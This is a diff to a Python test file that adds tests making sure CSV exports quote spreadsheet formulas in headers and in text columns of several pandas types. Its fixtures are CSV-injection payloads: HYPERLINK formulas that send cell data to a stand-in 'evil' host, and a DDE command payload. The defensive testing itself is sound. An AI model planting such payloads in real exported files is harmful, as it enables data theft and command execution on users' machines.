@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import errno
+import io
 import os
 import stat
 from collections.abc import Iterator
@@ -11,6 +13,7 @@ from pathlib import Path
 from typing import Any
 
 import pandas as pd
+import pyarrow as pa
 import pytest
 from openpyxl import load_workbook
 
@@ -25,6 +28,8 @@ from data.io import (
     write_table_to,
 )
 from data.simulate import simulate_to_dir
+from data.validation import quarantine_frame, validate_file
+from tests.data.conftest import HISTORY_NAMES, history_rows
 
 FORMULAS = ['=HYPERLINK("http://x/?leak="&B2,"click")', "=cmd|' /C calc'!A0", "+1", "@SUM(A1)"]
 TABLE = pd.DataFrame(
@@ -43,6 +48,83 @@ def test_csv_text_cells_starting_a_formula_get_a_quote_numbers_stay(tmp_path: Pa
     assert back["msme_id"].iloc[6] == "H7"
     assert back["uplift"].tolist() == TABLE["uplift"].tolist()  # -0.05 stays a number
     assert "\n-0.05" not in text and ",-0.05" in text
+
+
+def _written_csv(frame: pd.DataFrame, path: Path) -> list[list[str]]:
+    """The cells of `frame` as `write_table` writes them in CSV, header first."""
+    return list(csv.reader(io.StringIO(write_table(frame, path).read_text(), newline="")))
+
+
+def test_csv_headers_starting_a_formula_get_a_quote(tmp_path: Path) -> None:
+    """A column of the file's own named as a formula (the list exports, the quarantine files of
+    `umkm score`, `umkm prioritize` and training) is written as text, like its cells."""
+    link = '=HYPERLINK("http://evil/?x="&A2,"open")'
+    frame = pd.DataFrame({"msme_id": ["H1"], link: ["x"], "+saldo": [1.5], "@note": ["y"], 7: [1]})
+
+    header, row = _written_csv(frame, tmp_path / "own.csv")
+
+    assert header == ["msme_id", "'" + link, "'+saldo", "'@note", "7"]
+    assert row == ["H1", "x", "1.5", "y", "1"]
+    assert frame.columns.tolist()[1] == link  # the caller's frame is left as it was
+
+
+def test_a_quarantine_file_writes_an_own_header_as_text(tmp_path: Path) -> None:
+    """A file read with an own column named `=HYPERLINK(…)` (from a workbook's text cell), its
+    rejected rows quarantined as CSV: the header is text there too."""
+    link = '=HYPERLINK("http://evil/?x="&A2,"open")'
+    frame = history_rows(3)
+    frame.loc[1, "owner_age"] = "abc"
+    frame[link] = ["a", "b", "c"]
+    result = validate_file(write_table(frame, tmp_path / "history.xlsx"))
+
+    header, *rows = _written_csv(quarantine_frame(result), tmp_path / "quarantine.csv")
+
+    assert "'" + link in header and link not in header
+    assert len(rows) == 1
+
+
+def test_contract_headers_read_back_unchanged(tmp_path: Path) -> None:
+    """No contract header starts with a trigger: a file written and read back is the same."""
+    frame = history_rows(4)
+
+    back = read_table(write_table(frame, tmp_path / "history.csv"))
+
+    assert back.columns.tolist() == frame.columns.tolist()
+    assert not [name for name in HISTORY_NAMES if neutralised_text(name) != name]
+
+
+@pytest.mark.parametrize(
+    "dtype",
+    [
+        "category",
+        "string[pyarrow]",
+        pd.ArrowDtype(pa.string()),
+        pd.ArrowDtype(pa.large_string()),
+        pd.ArrowDtype(pa.dictionary(pa.int32(), pa.string())),
+        "string",
+    ],
+    ids=["category", "string-pyarrow", "arrow-string", "arrow-large", "arrow-dictionary", "string"],
+)
+def test_text_columns_of_every_type_get_the_quote(tmp_path: Path, dtype: Any) -> None:
+    """Categorical and pyarrow text columns were skipped: `=c` was written as a formula."""
+    frame = pd.DataFrame({"note": pd.Series(["=c", "-1+1", "ok", None], dtype=dtype)})
+
+    cells = _written_csv(frame, tmp_path / "typed.csv")
+
+    assert cells == [["note"], ["'=c"], ["'-1+1"], ["ok"], [""]]
+
+
+def test_numbers_booleans_and_times_stay_as_they_are(tmp_path: Path) -> None:
+    frame = pd.DataFrame(
+        {
+            "uplift": pd.Series([-0.5], dtype=pd.ArrowDtype(pa.float64())),
+            "count": pd.array([-2], dtype="Int64"),
+            "flag": pd.Series([True], dtype=pd.ArrowDtype(pa.bool_())),
+            "when": pd.to_datetime(["2026-01-10"]),
+        }
+    )
+
+    assert _written_csv(frame, tmp_path / "plain.csv")[1] == ["-0.5", "-2", "true", "2026-01-10"]
 
 
 def test_every_owasp_trigger_gets_the_quote() -> None:
